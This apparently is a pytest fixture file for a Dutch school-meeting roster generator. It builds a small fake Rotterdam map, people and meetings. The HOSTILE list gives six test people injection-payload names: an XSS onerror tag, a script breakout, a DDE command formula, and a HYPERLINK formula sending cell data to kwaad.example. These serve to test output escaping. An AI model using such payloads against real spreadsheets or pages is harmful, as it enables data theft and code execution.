"""A small round with hostile names on a made-up map, and a roster that the checker accepts."""

from __future__ import annotations

import re
from dataclasses import dataclass, replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from judging import honest, read

from matcher.domain import Area, Cancellation, PastMeeting, Professional, Region, Round, School, Slot, Venue
from matcher.formats.compiled import Compiled
from matcher.outputs import write_outputs
from matcher.roster import Roster

NOW = datetime(2026, 11, 22, 9, 0, tzinfo=UTC)

HOSTILE = [
    '=HYPERLINK("http://kwaad.example/?x="&A1,"klik")',
    '<img src=x onerror="window.geraakt=1">',
    "</script><script>window.geraakt=1</script>",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+31 10 123 45 67",
    "-Jan | **Dé** [Vries](http://kwaad.example)",
]


def _area(number: int, name: str) -> Area:
    return Area(f"WK05990{number}", name, "GM0599", "Rotterdam", False, 90_500 + 1_000 * number, 437_500)


class SmallAtlas:
    """Three square wijken in a row, a river through them, a school in each."""

    def __init__(self) -> None:
        self.wijken = {area.code: area for area in (_area(1, "Noord"), _area(2, "Midden"), _area(3, "Zuid"))}
        self.buurten: dict[str, Area] = {}
        self.municipalities: dict[str, Area] = {}
        self.schools: dict[str, School] = {}
        for number, wijk in enumerate(self.wijken, 1):
            for sector in ("PO", "VO"):
                code = f"{number}{sector}00"
                self.schools[code] = School(
                    code, code[:4], f"{sector}-school {number}", sector, sector, "1", (), False, "Straat 1",
                    "3011AA", "Rotterdam", "GM0599", wijk, "", True, 90_300.0 + 1_000 * number,
                    437_400.0 + (300 if sector == "VO" else 0), "adres", 200, code,
                )  # fmt: skip

    def area_at(self, x: float, y: float, kind: str) -> str | None:
        return None

    def frame(self, kind: str) -> Any:
        import geopandas
        from shapely.geometry import box

        if kind == "wijken":
            shapes = [box(90_000 + 1_000 * n, 437_000, 91_000 + 1_000 * n, 438_000) for n in (1, 2, 3)]
            return geopandas.GeoDataFrame({"code": list(self.wijken)}, geometry=shapes, crs=28992)
        shapes = [box(89_000, 437_450, 96_000, 437_550)] if kind == "water" else []
        return geopandas.GeoDataFrame({"code": ["w"] * len(shapes)}, geometry=shapes, crs=28992)


@dataclass(frozen=True)
class World:
    """What `write_outputs` is given."""

    round: Round
    compiled: Compiled
    roster: Roster
    atlas: SmallAtlas

    def write(self, out: Path, now: datetime = NOW, **options: Any) -> list[Path]:
        return write_outputs(self.round, self.compiled, self.roster, out, self.atlas, now=now, **options)

    def seated(self, **people: list[str]) -> World:
        """The same world with other people at the meetings."""
        meetings = [
            {"id": m.id, "slot": m.slot, "venue": m.venue, "people": people.get(m.id, m.people), "cases": []}
            for m in self.roster.meetings
        ]
        meetings = [meeting for meeting in meetings if meeting["people"]]
        return replace(self, roster=honest(self.compiled.problem, meetings, "feasible"))

    def moved(self, **slots: str) -> World:
        """The same world with meetings at other moments."""
        meetings = [
            {"id": m.id, "slot": slots.get(m.id, m.slot), "venue": m.venue, "people": m.people, "cases": []}
            for m in self.roster.meetings
        ]
        return replace(self, roster=honest(self.compiled.problem, meetings, "feasible"))

    def without(self, who: str, *, cancelled: bool = True) -> World:
        """The same world after somebody cancelled, or after the row was deleted."""
        old = self.compiled.problem
        problem = old.model_copy(
            update={
                "people": [person for person in old.people if person.id != who],
                "attend": [part for part in old.attend if part.person != who],
            }
        )
        if cancelled:
            round_ = replace(self.round, cancellations=(Cancellation(who, None),))
        else:
            round_ = replace(self.round, people=tuple(p for p in self.round.people if p.id != who))
        meetings = [
            {"id": m.id, "slot": m.slot, "venue": m.venue, "cases": [],
             "people": [p for p in m.people if p != who]}
            for m in self.roster.meetings
        ]  # fmt: skip
        roster = honest(problem, meetings, "feasible")
        return replace(self, round=round_, compiled=replace(self.compiled, problem=problem), roster=roster)


def _person(atlas: SmallAtlas, number: int, name: str, school: str, role: str, **more: Any) -> Professional:
    at = atlas.schools[school]
    return Professional(
        f"p{number}", name, f"persoon{number}@school.example", school, None, at.name, at.sector, role, at.x,
        at.y, {"winter": "ja", "zomer": "ja"}, row=number, **more,
    )  # fmt: skip


@pytest.fixture
def hostile() -> list[str]:
    """The names of the first six people."""
    return HOSTILE


@pytest.fixture
def world() -> World:
    atlas = SmallAtlas()
    teacher, ib, mentor = "leerkracht groep 8", "intern begeleider", "mentor"
    people = [
        _person(atlas, 1, HOSTILE[0], "1PO00", teacher),
        _person(atlas, 2, HOSTILE[1], "1PO00", ib, step_free=True),
        _person(atlas, 3, HOSTILE[2], "2VO00", mentor, max_meetings=2),
        _person(atlas, 4, HOSTILE[3], "2PO00", teacher),
        _person(atlas, 5, HOSTILE[4], "3PO00", teacher, step_free=True, chair=True),
        _person(atlas, 6, HOSTILE[5], "3VO00", "ondersteuningscoördinator"),
        _person(atlas, 7, "Zoë Öztürk", "3PO00", ib),
        _person(atlas, 8, "Anne Vol", "1VO00", mentor),
        _person(atlas, 9, "Bob Ver", "2VO00", mentor),
    ]
    slots = (
        Slot("winter", "vóór de zomertijd", datetime(2027, 3, 24, 13, 30), datetime(2027, 3, 24, 16, 0)),
        Slot("zomer", "in de zomertijd", datetime(2027, 3, 31, 13, 30), datetime(2027, 3, 31, 16, 0)),
    )
    venues = (
        Venue("v1", "Huis van de Wijk", "Plein 1, 3011AA Rotterdam", 91_200, 437_300, "WK059901", 1, 4,
              ("winter", "zomer"), None, True, "Conciërge", "Ingang achter"),
        Venue("v2", "PO-school 2", "Straat 2, 3011AB Rotterdam", 92_300, 437_400, "WK059902", 1, 24,
              ("winter", "zomer"), "2PO00"),
    )  # fmt: skip
    round_ = Round(
        "Ronde <b>voorjaar</b>", "wijkbijeenkomst",
        Region("Rotterdam", frozenset(atlas.wijken), frozenset(), frozenset({"GM0599"})), "wijk", slots,
        tuple(people), venues,
        history=(PastMeeting(datetime(2026, 3, 4), "oud-1", "p1"),),
    )  # fmt: skip

    vo = {"sector": "VO"}

    def meeting(number: int, most: int) -> dict[str, Any]:
        return {
            "id": f"m{number}", "area": f"WK05990{number}",
            "options": [["winter", "v1"], ["zomer", "v2"], ["winter", "v2"]],
            "max_size": most, "optional": True, "open_cost": 150,
            "quotas": [
                {"name": "intern begeleider", "match": {"role": ib}, "target": 1, "cost": 40},
                {"name": "mentor", "match": {"role": mentor}, "target": 1, "cost": 60},
            ],
            "variety": [{"name": "VO-scholen", "by": "school", "match": vo, "target": 3, "cost": 60}],
            "coverage": [{"name": "uitstroom", "by": "school", "match": vo,
                          "weights": {"2VO00": 100, "1VO00": 60}}],
            "crowding": [{"name": "zelfde school", "by": "school", "free": 1, "cost": 15}],
            "balance": [{"name": "PO hoogstens 1 per VO", "a": {"sector": "PO"}, "b": vo, "cost": 15}],
        }  # fmt: skip

    problem = read(
        {
            "version": 1,
            "name": round_.name,
            "slots": [
                {"id": s.id, "start": s.start.isoformat(), "end": s.end.isoformat()} for s in slots
            ],
            "venues": [{"id": "v1", "capacity": 4}, {"id": "v2", "capacity": 24}],
            "people": [
                {
                    "id": p.id, "sector": p.sector, "school": p.school, "role": p.role, "unplaced_cost": 300,
                    "slots": {"winter": 0} if p.id == "p9" else {"winter": 0, "zomer": 0},
                    "max_meetings": p.max_meetings or 1,
                }
                for p in people
            ],
            "meetings": [meeting(1, 4), meeting(2, 24), meeting(3, 24)],
            "attend": [
                {"person": p.id, "meeting": m, "cost": {"v1": 10, "v2": 5 + int(p.id[1:])}}
                for p in people
                for m in (["m1"] if p.id == "p8" else ["m2"] if p.id == "p9" else ["m1", "m2", "m3"])
            ],
        }
    )  # fmt: skip
    roster = honest(
        problem,
        [
            {"id": "m1", "slot": "winter", "venue": "v1", "people": ["p1", "p2", "p3", "p4"], "cases": []},
            {"id": "m2", "slot": "zomer", "venue": "v2", "people": ["p3", "p5", "p6"], "cases": []},
        ],
        "feasible",
        seconds=12.5,
        seed=7,
        workers=8,
        engine="deelproblemen",
        software="po-vo-matcher 0.1",
    )
    cost = roster.cost or 0
    roster = roster.model_copy(update={"bound": cost - 20, "gap": 20 / cost})
    minutes = {(p.id, v): 10 if v == "v1" else 5 + int(p.id[1:]) for p in people for v in ("v1", "v2")}
    compiled = Compiled(
        problem, minutes, {("p1", "v1"): 1},
        {"m1": "Noord", "m2": "=Midden", "m3": "Zuid"},
        {f"m{n}": f"WK05990{n}" for n in (1, 2, 3)},
        {"WK059901": {"2VO00": 50, "1VO00": 30}, "WK059903": {"3VO00": 25, "1VO00": 75}}, frozenset(),
        {"p7": "Geen locatie binnen 20 minuten: de dichtstbijzijnde is 31 minuten ver."},
    )  # fmt: skip
    return World(round_, compiled, roster, atlas)


class Visit:
    """A page opened from disk, with everything it asked for and everything it complained about."""

    def __init__(self, browser, path, width):
        self.asked, self.complaints = [], []
        self.page = browser.new_page(viewport={"width": width, "height": 844})
        self.page.route(re.compile(r"^(?!file:|data:)"), self._refuse)
        self.page.on("console", lambda message: self.complaints.append(message.text))
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.page.goto(path.as_uri())
        self.page.wait_for_selector("html.klaar")

    def _refuse(self, route):
        self.asked.append(route.request.url)
        route.abort()
